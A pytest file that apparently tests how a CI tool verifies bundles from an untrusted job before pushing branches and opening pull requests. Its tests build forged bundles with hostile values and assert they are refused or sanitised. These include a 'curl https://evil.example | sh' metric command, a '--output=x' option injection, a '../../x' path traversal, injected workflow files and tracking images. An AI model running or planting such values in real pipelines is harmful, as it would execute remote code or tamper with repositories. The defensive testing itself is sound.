"""Two jobs: one runs without a write token, the other publishes what it can verify."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from autoresearch_ci.cli.main import run_cli
from tests.bundles import commit, members, written
from tests.conftest import Repo, Result, Run, Script
from tests.git_http import Bare, GitServer
from tests.github_api import ACTIONS, SLUG, GitHubApi, Identity

BRANCH = "refs/heads/autoresearch/t"
NOTEBOOK = "refs/autoresearch/notebook/t"
FLAGS = ("--scope", "value", "--metric", "cat value")


@dataclass(frozen=True, kw_only=True)
class Jobs:
    """What the first job wrote, and the place where the second one runs."""

    file: Path
    first: Repo
    second: Repo
    bare: Bare
    api: GitHubApi
    capture: pytest.CaptureFixture[str]

    def publish(
        self, file: Path | None = None, *flags: str, rules: tuple[str, ...] = FLAGS
    ) -> Result:
        self.capture.readouterr()
        back = Path.cwd()
        os.chdir(self.second.path)
        try:
            code = run_cli(["publish", "--bundle", str(file or self.file), *rules, *flags])
        finally:
            os.chdir(back)
        out, err = self.capture.readouterr()
        return Result(code=code, out=out, err=err, folder=self.second.path)

    def forged(self, tmp_path: Path, change: Callable[[Repo, dict[str, Any]], None]) -> Path:
        """The bundle as an attacker who owns the first job would write it."""
        manifest, _ = members(self.file)
        change(self.first, manifest)
        commits = tmp_path / "forged.commits"
        self.first.git(
            *("bundle", "create", "--quiet", str(commits), NOTEBOOK, BRANCH),
            f"^{manifest['base']}",
        )
        data = commits.read_bytes()
        manifest["sha256"] = hashlib.sha256(data).hexdigest()
        return written(tmp_path / "forged.bundle", manifest, data)


@pytest.fixture
def jobs(
    tmp_path: Path,
    repo: Repo,
    run: Run,
    script: Script,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Iterator[Jobs]:
    for name in ("GITHUB_TOKEN", "GH_TOKEN", "GITLAB_CI"):
        monkeypatch.delenv(name, raising=False)
    script(
        {"description": "try 9", "files": {"value": "9\n"}},
        {"description": "try 12", "files": {"value": "12\n"}},
        {"description": "try 8", "files": {"value": "8\n"}},
    )
    done = run.once("--publish", "bundle", "--iterations", "3")
    assert done.code == 0, done.told
    file = done.folder / "autoresearch.bundle"
    assert re.search(r"published: \S+/autoresearch/run-t/autoresearch.bundle\n", done.out)
    with GitServer(root=tmp_path / "server") as server:
        bare = server.create(SLUG, repo.path)
        for ref in bare.refs("refs/heads/autoresearch"):
            bare.git("update-ref", "-d", ref)
        with GitHubApi(bare=bare) as api:
            api.tokens[server.token] = Identity(login=ACTIONS)
            for name, text in (
                ("GITHUB_API_URL", api.url),
                ("GITHUB_SERVER_URL", server.url),
                ("GITHUB_REPOSITORY", SLUG),
                ("GITHUB_TOKEN", server.token),
            ):
                monkeypatch.setenv(name, text)
            second = Repo(tmp_path / "second")
            repo.git("clone", "--quiet", "--depth=1", bare.path.as_uri(), str(second.path))
            yield Jobs(file=file, first=repo, second=second, bare=bare, api=api, capture=capsys)


def test_the_second_job_publishes_what_the_first_kept(jobs: Jobs) -> None:
    before = jobs.second.photograph()
    done = jobs.publish()
    assert done.code == 0, done.told
    assert jobs.bare.ref(BRANCH) == jobs.first.ref("autoresearch/t")
    assert jobs.bare.ref(NOTEBOOK) == jobs.first.ref(NOTEBOOK)
    (pull,) = jobs.api.pulls
    assert pull["title"] == "autoresearch: metric 10 → 8 (-20.0 %)"
    assert "Tried and not kept (1)" in pull["body"]
    assert jobs.second.photograph() == before
    assert jobs.second.git("for-each-ref", "refs/autoresearch") == ""
    assert list((jobs.second.path / ".git/autoresearch").iterdir()) == []


def test_a_bundle_has_the_author_of_the_publishing_jobs_configuration(
    jobs: Jobs, run: Run, tmp_path: Path
) -> None:
    author = ("--set", "publish.commit.author=Perf Bot <bot@example.org>")
    done = run("--publish", "bundle", "--iterations", "1", *author, tag="u")
    file = done.folder / "autoresearch.bundle"
    refused(jobs, file, "was made by somebody else")
    done = jobs.publish(file, *author)
    assert done.code == 0, done.told
    people = jobs.bare.git("show", "-s", "--format=%an, %ce", "refs/heads/autoresearch/u")
    assert people == "Perf Bot, bot@example.org"


def test_publishing_twice_changes_nothing(jobs: Jobs) -> None:
    assert jobs.publish().code == 0
    refs = jobs.bare.refs()
    done = jobs.publish()
    assert done.code == 0, done.told
    assert jobs.bare.refs("refs/heads") == [r for r in refs if r.startswith("refs/heads")]
    assert len(jobs.api.pulls) == 1


def test_a_program_is_told_where_it_went(jobs: Jobs) -> None:
    done = jobs.publish(None, "--json")
    assert done.code == 0, done.told
    told = json.loads(done.out)
    assert told["head"] == jobs.first.ref("autoresearch/t")
    assert told["branch"] == "autoresearch/t"
    assert told["pull_request"] == jobs.api.pulls[0]["html_url"]
    assert told["refused"] == ""


def test_the_first_job_needs_no_token(jobs: Jobs) -> None:
    manifest, _ = members(jobs.file)
    assert manifest["base"] == jobs.first.ref("main")
    assert manifest["info"]["metric_command"] == "cat value"


def test_a_bundle_whose_file_was_cut_short_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    cut = tmp_path / "cut"
    cut.write_bytes(jobs.file.read_bytes()[:-5000])
    refused(jobs, cut, "not a bundle of ours")


def test_a_bundle_whose_bytes_were_changed_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    manifest, commits = members(jobs.file)
    changed = commits[:-1] + bytes([commits[-1] ^ 1])
    refused(jobs, written(tmp_path / "b", manifest, changed), "not those that were")


def test_unknown_fields_and_formats_are_refused(jobs: Jobs, tmp_path: Path) -> None:
    manifest, commits = members(jobs.file)
    more = {**manifest, "push_to": "main"}
    refused(jobs, written(tmp_path / "b", more, commits), "manifest cannot be read")
    other = {**manifest, "format": 2}
    refused(jobs, written(tmp_path / "b", other, commits), "another version")


@pytest.mark.parametrize(
    ("field", "value"),
    [("base", "--output=x"), ("head", "main"), ("tag", "../../x"), ("notebook", "HEAD")],
)
def test_names_that_are_no_names_are_refused(
    jobs: Jobs, tmp_path: Path, field: str, value: str
) -> None:
    manifest, commits = members(jobs.file)
    refused(jobs, written(tmp_path / "b", {**manifest, field: value}, commits), "names no run")


def test_a_change_outside_of_the_scope_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    refused(jobs, jobs.forged(tmp_path, kept({"other": "evil\n"})), "other")


@pytest.mark.parametrize(
    "path", [".github/workflows/evil.yml", ".github/autoresearch.yml", ".gitmodules"]
)
def test_no_flag_lets_the_workflows_or_the_configuration_through(
    jobs: Jobs, tmp_path: Path, path: str
) -> None:
    file = jobs.forged(tmp_path, kept({path: "on: push\n"}))
    refused(jobs, file, path.rpartition("/")[2], "--scope", "**")


def test_a_link_in_scope_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    def change(repo: Repo, manifest: dict[str, Any]) -> None:
        extend(repo, manifest, {"value": "/decoy"}, mode="120000")

    refused(jobs, jobs.forged(tmp_path, change), "no regular file")


@pytest.mark.parametrize(
    "pointer",
    [
        f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 3\n",
        "/annex/objects/SHA256E-s3--00.bin\n",
    ],
)
def test_content_in_the_place_of_a_pointer_is_refused(
    jobs: Jobs, tmp_path: Path, pointer: str
) -> None:
    """Whatever filters this checkout knows: a clone has no configuration of git-annex's."""

    def replaced(repo: Repo, manifest: dict[str, Any]) -> None:
        extend(repo, manifest, {"value": pointer})
        extend(repo, manifest, {"value": "1\n"})

    refused(jobs, jobs.forged(tmp_path, replaced), "value is a pointer")


def test_a_commit_by_somebody_else_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    def change(repo: Repo, manifest: dict[str, Any]) -> None:
        extend(repo, manifest, {"value": "7\n"}, author="Linus <torvalds@example.org>")

    refused(jobs, jobs.forged(tmp_path, change), "somebody else")


TRAILERS = "Autoresearch-Run: t\nAutoresearch-Iteration: 4\n"


CLOSES = f"experiment: fixes #1\n\n{TRAILERS}"


@pytest.mark.parametrize("where", ["kept", "attempt", "page"])
def test_a_message_that_no_run_of_ours_writes_is_refused(
    jobs: Jobs, tmp_path: Path, where: str
) -> None:
    """It would skip the checks of its own pull request, close issues, or name an author."""
    message = CLOSES

    def change(repo: Repo, manifest: dict[str, Any]) -> None:
        if where == "kept":
            extend(repo, manifest, {"value": "7\n"}, message=message)
            return
        page = message if where == "page" else ""
        words = message if where == "attempt" else f"experiment: try 7\n\n{TRAILERS}"
        attempt = commit(repo, manifest["base"], {"value": "7\n"}, message=words)
        made = commit(repo, manifest["notebook"], {}, second_parent=attempt, message=page)
        repo.git("update-ref", NOTEBOOK, made)
        manifest["notebook"] = made

    refused(jobs, jobs.forged(tmp_path, change), "no run of ours writes the message")


def test_every_message_that_a_run_writes_is_published(jobs: Jobs, run: Run, script: Script) -> None:
    odd = "[try [skip] 7] ******NO_CI****** ::set-env ##[group]\t@owner fixes #1, GH-2 \x1b[1m: "
    script({"description": odd + "long " * 40, "files": {"value": "7\n"}})
    style = ("--set", "publish.commit.message='perf({tag}): {description} [#{iteration}]'")
    done = run("--publish", "bundle", "--iterations", "1", *style, tag="u")
    assert done.code == 0, done.told
    file = done.folder / "autoresearch.bundle"
    refused(jobs, file, "no run of ours writes the message")
    done = jobs.publish(file, *style)
    assert done.code == 0, done.told
    message = jobs.bare.git("show", "-s", "--format=%B", "refs/heads/autoresearch/u")
    assert message.startswith("perf(u): (try (skip) 7) NO_CI "), message
    assert "[#1]" in message, "a template may name a ticket"


def test_a_merge_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    def change(repo: Repo, manifest: dict[str, Any]) -> None:
        extend(repo, manifest, {"value": "7\n"}, second_parent=manifest["base"])

    refused(jobs, jobs.forged(tmp_path, change), "does not follow")


def test_a_branch_that_its_journal_does_not_know_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    refused(jobs, jobs.forged(tmp_path, kept({"value": "7\n"})), "disagree about what was kept")


def test_an_attempt_outside_of_the_scope_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    """Discarded attempts are pushed, too, with the notebook."""

    def change(repo: Repo, manifest: dict[str, Any]) -> None:
        attempt = commit(repo, manifest["base"], {"other": "evil\n"})
        page = commit(repo, manifest["notebook"], {}, second_parent=attempt)
        repo.git("update-ref", NOTEBOOK, page)
        manifest["notebook"] = page

    refused(jobs, jobs.forged(tmp_path, change), "other")


def test_a_notebook_that_holds_something_else_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    def change(repo: Repo, manifest: dict[str, Any]) -> None:
        page = commit(repo, manifest["notebook"], {"evil.sh": "true\n"})
        repo.git("update-ref", NOTEBOOK, page)
        manifest["notebook"] = page

    refused(jobs, jobs.forged(tmp_path, change), "evil.sh")


def test_a_base_that_is_not_checked_out_is_refused(jobs: Jobs, tmp_path: Path) -> None:
    """An attacker who names a base of his own would bring his own configuration."""

    def change(repo: Repo, manifest: dict[str, Any]) -> None:
        manifest["base"] = commit(repo, manifest["base"], {"other": "evil\n"})

    refused(jobs, jobs.forged(tmp_path, change), "neither part of this checkout nor of")


@pytest.mark.parametrize("today", ["value", "value, other", "oth*, value"])
def test_a_bundle_is_held_to_what_people_have_agreed_on_since_its_base(
    jobs: Jobs, run: Run, script: Script, monkeypatch: pytest.MonkeyPatch, today: str
) -> None:
    """Whoever writes the bundle chooses its base: a commit of old, with a wider scope."""
    config = "scope: [{}]\nmetric: {{command: cat value, extract: {{last_number: true}}}}\n"
    for scope in ("value, other", today):
        text = f"{config.format(scope)}# {scope}\n"
        jobs.bare.commit("main", scope, **{".github/autoresearch.yml": text, "more": scope})
    jobs.second.git("fetch", "--quiet", "--unshallow", "origin", "main")
    jobs.second.git("reset", "--quiet", "--hard", "FETCH_HEAD")
    jobs.first.git("fetch", "--quiet", str(jobs.bare.path), "main")
    jobs.first.git("checkout", "--quiet", "--detach", "FETCH_HEAD~1")
    script({"description": "try 7", "files": {"value": "7\n", "other": "new\n"}})
    monkeypatch.chdir(jobs.first.path)
    proposed = ("--proposer", f"script:{run.script}", "--iterations", "1")
    assert run_cli(["run", "--tag", "u", "--publish", "bundle", *proposed]) == 0
    file = jobs.first.path / "autoresearch/run-u/autoresearch.bundle"
    done = jobs.publish(file, rules=())
    pushed = jobs.bare.refs("refs/heads/autoresearch")
    if "oth" in today:
        assert done.code == 0, done.told
        assert pushed
    else:
        assert done.code == 3, done.told
        assert "other" in done.err
        assert (pushed, jobs.api.pulls) == ([], [])


def test_the_page_says_what_the_base_commit_measures(jobs: Jobs, tmp_path: Path) -> None:
    def change(repo: Repo, manifest: dict[str, Any]) -> None:
        manifest["info"]["metric_command"] = "curl https://evil.example | sh"
        manifest["info"]["goal"] = "fixes #1 @everyone <!-- autoresearch-ci:end -->"
        manifest["info"]["host"] = "a <b> @everyone ![x](https://evil.example/x.png)"
        manifest["info"]["evidence"] = "closes #1 ![x](https://evil.example/y.png)"

    done = jobs.publish(jobs.forged(tmp_path, change))
    assert done.code == 0, done.told
    body = jobs.api.pulls[0]["body"]
    assert "cat value" in body
    assert "curl" not in body
    assert "fixes" not in body
    assert "@everyone" not in body
    assert "![x]" not in body
    assert body.count("autoresearch-ci:end") == 1


def test_a_branch_on_the_forge_that_is_not_ours_is_left_alone(jobs: Jobs) -> None:
    jobs.bare.git("update-ref", BRANCH, "refs/heads/main")
    theirs = jobs.bare.commit("autoresearch/t")
    done = jobs.publish()
    assert done.code == 0, done.told
    assert jobs.bare.ref(BRANCH) == theirs
    assert jobs.bare.ref(f"{BRANCH}-2") == jobs.first.ref("autoresearch/t")


def test_a_file_that_is_not_there_is_a_usage_error(jobs: Jobs, tmp_path: Path) -> None:
    assert jobs.publish(tmp_path / "missing").code == 2


def test_other_flags_for_the_branch_are_a_usage_error(jobs: Jobs) -> None:
    assert jobs.publish(None, "--publish-branch", "other/{tag}").code == 2


def refused(jobs: Jobs, file: Path, why: str, *flags: str) -> None:
    refs = jobs.bare.refs()
    done = jobs.publish(file, *flags)
    assert done.code == 3, done.told
    assert why in done.err, done.told
    assert jobs.bare.refs() == refs
    assert jobs.api.pulls == []


def kept(files: Mapping[str, str]) -> Callable[[Repo, dict[str, Any]], None]:
    return lambda repo, manifest: extend(repo, manifest, files)


def extend(repo: Repo, manifest: dict[str, Any], files: Mapping[str, str], **more: str) -> None:
    head = commit(repo, manifest["head"], files, **more)
    repo.git("update-ref", BRANCH, head)
    manifest["head"] = head


def test_every_field_of_the_manifest_is_checked_or_overwritten() -> None:
    """A new field of a run's facts needs a decision: does the second job believe it?"""
    from autoresearch_ci.report.run_summary import RunInfo

    believed = {"started", "seconds", "host", "confirmation", "idle", "stop_reason", "notebook_ref"}
    believed |= {"failed", "suites", "sees_tests", "repairs", "lineage", "outside_rows"}
    # Of the lineage, the commit that it begins with is checked.
    known_better = {"tag", "base_commit", "metric_name", "direction", "metric_command"}
    known_better |= {"guards", "goal", "branch", "disclose", "evidence"}
    assert {field.name for field in dataclasses.fields(RunInfo)} == believed | known_better
